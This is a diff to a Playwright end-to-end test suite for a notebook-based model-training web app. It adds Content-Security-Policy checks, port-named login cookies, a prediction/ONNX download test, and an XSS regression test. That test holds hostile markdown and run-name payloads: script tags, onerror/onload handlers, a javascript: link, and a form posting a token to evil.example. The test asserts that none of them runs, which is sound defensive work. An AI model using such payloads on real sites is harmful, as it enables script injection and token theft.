@@ -14,11 +14,11 @@ import { tmpdir } from 'node:os';
 import { join, dirname, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { execFileSync } from 'node:child_process';
-import { freePort, startServer, apiClient, waitFor, allEvents, runCases, sleep } from './lib.mjs';
+import { freePort, startServer, apiClient, waitFor, allEvents, runCases, sleep, launchChromium, stopServer, logTail } from './lib.mjs';
+import { fashionTestImages } from '../integration/images.mjs';
 
 const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
 const SHOTS = join(ROOT, 'tests/e2e/screenshots');
-const { chromium } = await import(join(ROOT, 'web/node_modules/playwright-core/index.mjs'));
 
 const TOKEN = 'e2e' + Math.random().toString(16).slice(2) + Date.now().toString(16);
 const work = mkdtempSync(join(tmpdir(), 'tb-e2e-'));
@@ -30,7 +30,7 @@ const serverLog = join(ROOT, 'build/test-logs/e2e-server.log');
 const EXAMPLE = 'examples/fashion-mnist.ipynb';
 const SHORT = 'e2e-short.ipynb';
 
-const S = { pageErrors: [] }; // state shared by the cases
+const S = { pageErrors: [], csp: [] }; // state shared by the cases
 let ctx = null;
 let server = null;
 
@@ -141,14 +141,15 @@ const cases = [
 			S.base = server.base;
 			S.api = apiClient(S.base, TOKEN);
 			const profile = join(work, 'chromium-profile');
-			ctx = await chromium.launchPersistentContext(profile, {
-				executablePath: '/usr/bin/chromium',
-				headless: true,
-				viewport: { width: 1360, height: 900 },
-				args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
-			});
+			ctx = await launchChromium(profile);
 			S.page = ctx.pages()[0] || (await ctx.newPage());
 			S.page.on('pageerror', (e) => S.pageErrors.push(e.message));
+			// The page must work under the server's Content-Security-Policy: any
+			// violation (an inline style or script, a foreign image or socket)
+			// fails the case that caused it. Chromium reports each one on the console.
+			ctx.on('console', (m) => {
+				if (/Content[ -]Security[ -]Policy/i.test(m.text())) S.csp.push(m.text().slice(0, 300));
+			});
 			// a "leave the page?" prompt must not hang the test; other native dialogs are not expected
 			S.page.on('dialog', (d) => (d.type() === 'beforeunload' ? d.accept() : d.dismiss()));
 		},
@@ -170,7 +171,9 @@ const cases = [
 				throw new Error(`after posting the token the browser shows ${page.url()}: ${body}`);
 			}
 			const cookies = await ctx.cookies(S.base);
-			assert(cookies.some((c) => c.name === 'trainbook_token'), 'no trainbook_token cookie after logging in');
+			// Named by the port: two servers on one host keep separate logins.
+			const want = `trainbook_token_${new URL(S.base).port}`;
+			assert(cookies.some((c) => c.name === want), `no ${want} cookie after logging in`);
 		},
 	},
 	{
@@ -574,6 +577,101 @@ const cases = [
 		},
 	},
 	{
+		name: 'hostile markdown, run names and spec errors are shown as text, never run (CVE-2021-32798 class)',
+		needs: ['token URL opens the workspace with the example notebook and the system panel'],
+		// Chromium reports the payload's inline handlers and styles as refused
+		// while the sanitiser parses them (nothing runs: that is the policy as
+		// the second line of defence). Here what counts is what ran and what
+		// stayed in the page, asserted below.
+		cspExpected: true,
+		fn: async () => {
+			const page = S.page;
+			const payload = (n) => `<img src=x onerror="window.__pwned=${n}">`;
+			const markdown = ['# Hostile notes', '<script>window.__pwned = 1</script>', payload(2),
+				'<style>body { display: none !important }</style>', '<form action="http://evil.example/steal"><input name="token"><button>Log in</button></form>',
+				'<a href="javascript:window.__pwned=3">click me</a>', '<svg onload="window.__pwned=4"></svg>', '<p style="position:fixed;inset:0;background:red">cover</p>',
+				'![tracker](http://evil.example/pixel.gif)'].join('\n\n');
+			const badSpec = `data: {dataset: synthetic, shape: [1,4,4], classes: 2, train_size: 8, batch_size: 4}\nmodel: [flatten, {'${payload(5)}': 4}]\n`;
+			await S.api.post('api/notebooks', { path: 'e2e-hostile.ipynb', content: {
+				cells: [
+					{ cell_type: 'markdown', id: 'md1', metadata: {}, source: markdown },
+					{ cell_type: 'code', id: 'run1', metadata: { trainbook: { kind: 'run' } }, execution_count: null, outputs: [], source: badSpec },
+				], metadata: {}, nbformat: 4, nbformat_minor: 5 } });
+			const runName = payload(6) + '<b>bold</b>';
+			const okSpec = 'data: {dataset: synthetic, shape: [1,4,4], classes: 2, train_size: 8, test_size: 4, batch_size: 4}\nmodel: [flatten, {linear: 2}]\ntrain: {epochs: 1}\n';
+			const run = await S.api.post('api/runs', { spec: okSpec, name: runName });
+			const dialogs = [];
+			const onDialog = (d) => dialogs.push(d.type() + ': ' + d.message());
+			page.on('dialog', onDialog);
+			try {
+				await openNotebook(page, 'e2e-hostile.ipynb');
+				await page.waitForSelector('.markdown-cell h1:has-text("Hostile notes")');
+				await page.locator('.spec-errors li', { hasText: 'expected a layer type name' }).first().waitFor({ timeout: 15000 });
+				const errText = await page.locator('.spec-errors li').first().textContent();
+				assert(errText.includes(payload(5)), `the spec error does not show the layer name as text: ${errText}`);
+				await sleep(500);
+				const inPage = () => page.evaluate(() => ({
+					pwned: window.__pwned,
+					handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
+					markdownStyles: document.querySelectorAll('.markdown-body style, .markdown-body [style], .markdown-body form, .markdown-body input, .markdown-body button').length,
+					jsLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href'))).length,
+					bodyShown: getComputedStyle(document.body).display !== 'none',
+					bold: [...document.querySelectorAll('b')].filter((b) => b.textContent === 'bold').length,
+				}));
+				// In the notebook: the markdown and the spec error.
+				let found = await inPage();
+				assert(found.markdownStyles === 0 && found.bodyShown, `markdown kept style or form elements: ${JSON.stringify(found)}`);
+				assert(found.handlers === 0 && found.jsLinks === 0, `event handlers or javascript: links in the notebook: ${JSON.stringify(found)}`);
+				// On the runs page and in the run's view: the run's name.
+				for (const view of ['#/runs', '#/runs?ids=' + run.run.id]) {
+					await page.goto(S.base + view);
+					await page.getByText(runName).first().waitFor({ timeout: 15000 });
+					await sleep(500);
+					found = await inPage();
+					assert(found.handlers === 0 && found.bold === 0, `${view}: the run name was parsed as HTML: ${JSON.stringify(found)}`);
+				}
+				assert(found.pwned === undefined, `injected script ran (window.__pwned = ${found.pwned})`);
+				assert(dialogs.length === 0, `dialogs opened: ${dialogs.join(' | ')}`);
+			} finally {
+				page.off('dialog', onDialog);
+			}
+		},
+	},
+	{
+		name: 'Predict on an uploaded PNG shows the top-5 bars and the image as the model saw it; ONNX downloads',
+		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints'],
+		fn: async () => {
+			const page = S.page;
+			await openNotebook(page, SHORT);
+			const cell = page.locator('.run-cell[data-cell-id="short"]');
+			const ckpt = cell.locator('li.ckpt').first();
+			await ckpt.waitFor({ timeout: 15000 });
+			const file = await ckpt.getAttribute('data-file');
+			await ckpt.locator('button', { hasText: 'Predict' }).click();
+			const panel = cell.locator('section.predict');
+			await panel.locator('h4', { hasText: `Predict with ${file}` }).waitFor({ timeout: 5000 });
+			const [img] = fashionTestImages(1);
+			await panel.locator('input[type=file]').setInputFiles({ name: 'ankle-boot.png', mimeType: 'image/png', buffer: img.png });
+			const bars = panel.locator('li.predict-bar');
+			await waitFor(async () => (await bars.count()) === 5, { timeout: 15000, what: 'five bars' });
+			const shown = await bars.evaluateAll((els) => els.map((e) => ({ cls: e.dataset.class, width: e.querySelector('.predict-fill').style.width })));
+			const api = await S.api.post(`api/runs/${S.shortRun}/predict`, { image: img.png.toString('base64'), checkpoint: file });
+			assert(JSON.stringify(shown.map((b) => b.cls)) === JSON.stringify(api.top.map((t) => t.class)), `the page shows ${shown.map((b) => b.cls)}, the API says ${api.top.map((t) => t.class)}`);
+			const widths = shown.map((b) => parseFloat(b.width));
+			assert(widths[0] > 0 && widths.every((w, i) => i === 0 || w <= widths[i - 1]), `bar widths ${widths}`);
+			const seen = await panel.locator('canvas.predict-seen').evaluate((c) => [c.width, c.height]);
+			assert(seen[0] === 28 && seen[1] === 28, `the seen image is ${seen}`);
+			// A test sample from the evaluation classifies too.
+			await panel.locator('button.predict-sample').first().click();
+			await panel.locator('.predict-list p', { hasText: 'test sample' }).waitFor({ timeout: 15000 });
+			await shot(page, 'predict.png');
+			const href = await ckpt.locator('a', { hasText: 'ONNX' }).getAttribute('href');
+			assert(href.endsWith(`/checkpoints/${encodeURIComponent(file)}/model.onnx`), `ONNX link ${href}`);
+			const r = await S.api.raw(`api/runs/${S.shortRun}/checkpoints/${encodeURIComponent(file)}/model.onnx`);
+			assert(r.status === 200 && (await r.arrayBuffer()).byteLength > 1000, `ONNX download: HTTP ${r.status}`);
+		},
+	},
+	{
 		name: 'the page raised no uncaught errors',
 		needs: ['server starts'],
 		fn: async () => {
@@ -585,18 +683,20 @@ const cases = [
 let result = { pass: 0, fail: 1 };
 try {
 	result = await runCases(cases, {
+		check: async (c) => {
+			// Give late reports a moment, then fail the case on any violation it caused.
+			if (ctx) await sleep(200);
+			const seen = S.csp.splice(0);
+			if (seen.length && !c.cspExpected) throw new Error(`Content-Security-Policy violations: ${seen.slice(0, 3).join(' | ')}`);
+		},
 		onFail: async (c) => {
 			if (S.page) await S.page.screenshot({ path: join(SHOTS, 'failed-' + c.name.replace(/[^a-z0-9]+/gi, '-').slice(0, 60) + '.png'), fullPage: true });
 		},
 	});
 } finally {
 	if (ctx) await ctx.close().catch(() => {});
-	if (server) {
-		server.proc.kill('SIGTERM');
-		await Promise.race([new Promise((r) => server.proc.once('exit', r)), sleep(10000)]);
-		if (!server.exitedRef()) server.proc.kill('SIGKILL');
-	}
-	if (result.fail) console.error('server log: ' + serverLog + '\n' + (existsSync(serverLog) ? readFileSync(serverLog, 'utf8').split('\n').slice(-15).join('\n') : ''));
+	if (server) await stopServer(server);
+	if (result.fail) console.error(logTail(serverLog));
 	rmSync(work, { recursive: true, force: true });
 }
 console.log(`${result.pass} passed, ${result.fail} failed`);
